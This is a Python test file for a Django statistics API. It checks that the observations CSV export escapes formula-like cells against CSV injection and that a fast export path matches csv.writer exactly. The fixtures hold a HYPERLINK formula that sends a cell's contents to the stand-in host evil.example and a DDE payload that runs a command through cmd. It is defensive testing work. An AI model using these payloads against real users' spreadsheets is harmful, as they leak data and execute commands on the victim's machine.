"""The observations CSV export cannot carry spreadsheet formulas (CSV injection)."""

from __future__ import annotations

import csv
import io
import json

import pytest

from sdg87.api.tests.fixtures import ApiRows
from sdg87.indicators.models import Observation

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'
DDE = "=cmd|'/C calc'!A0"  # fits the 40-character unit column (PostgreSQL enforces it)


def test_csv_export_escapes_formula_text_but_not_negative_values(client, api_rows: ApiRows):
    """A unit and a note starting with '=' are written with a leading quote; a negative
    value stays a plain negative number."""
    obs = Observation.objects.filter(series=api_rows.series_b).get()
    Observation.objects.filter(pk=obs.pk).update(unit=DDE, note=HYPERLINK, value=-12.5)
    response = client.get("/api/v1/observations?series=TEST_B&release=all&format=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["unit"] == "'" + DDE
    assert row["note"] == "'" + HYPERLINK
    assert row["value"] == "-12.5"
    assert row["series"] == "TEST_B" and row["year"] == "2020"


def test_csv_text_reuses_label_cells_and_is_the_writers_line_of_the_reference_row():
    """The export's fast text (label, short text and dimension cells quoted once per export)
    is byte for byte what csv.writer writes for the reference `_csv_row` of the observation:
    formula-like labels, commas, quotes, line breaks, empty and missing cells included."""
    from sdg87.api.observation_csv import _csv_row, _LabelCells
    from sdg87.api.observation_rows import ObservationRows

    related = ObservationRows()
    related.series = {1: ("SL_X", "8.7.1"), 2: ("=SUM(1)", None)}
    related.geographies = {
        7: {"code": "NPL", "iso3": "NPL", "m49": "524", "name": "@Nepal"},
        8: {"code": 'ZZ, "Q"', "iso3": None, "m49": None, "name": "Côte d'Ivoire"},
    }
    source = {"code": "S", "title": "+T", "publisher": "P, Ltd.", "licence": "CC-BY-4.0"}
    release = {"code": "R", "title": "-R", "year": 2024, "citation": 'C "q"\nline', "url": ""}
    related.releases = {3: (source, release)}  # type: ignore[dict-item]
    # rows as the database driver gives them: dimensions as stored JSON text
    stored = [
        (10, 1, 7, 3, 2019, "_T", "Y5T17", None, -1.5, "PERCENT", "E", "=x"),
        (11, 2, 8, 3, 2020, "F", "_T", '{"b": "2", "a": "1"}', 3.0, "NUMBER", "", ""),
        (12, 1, 8, 3, 2021, "M", "_T", "{}", 1e-07, "a,b", "", 'say "hi",\r\nbye'),
        (13, 2, 7, 3, 2022, "_T", "_T", '{"k": "v, w"}', 123456789.125, "", "E", " "),
        (14, 1, 7, 3, 2019, "_T", "Y5T17", None, -1.5, "PERCENT", "E", "=x"),
    ]
    expected = io.StringIO()
    writer = csv.writer(expected)
    for row in stored:
        dims = json.loads(row[7]) if row[7] else row[7]
        decoded = (*row[:7], dims, *row[8:])
        writer.writerow(_csv_row(related.observation(decoded)))  # type: ignore[arg-type]
    cells = _LabelCells(related)
    assert cells.text(stored[:2]) + cells.text(stored[2:]) == expected.getvalue()
    lines = list(csv.reader(io.StringIO(expected.getvalue())))
    assert lines[0][6] == "'@Nepal" and lines[1][1] == "'=SUM(1)" and lines[0][14] == "'=x"
    assert lines[1][10] == '{"a": "1", "b": "2"}' and lines[2][10] == ""
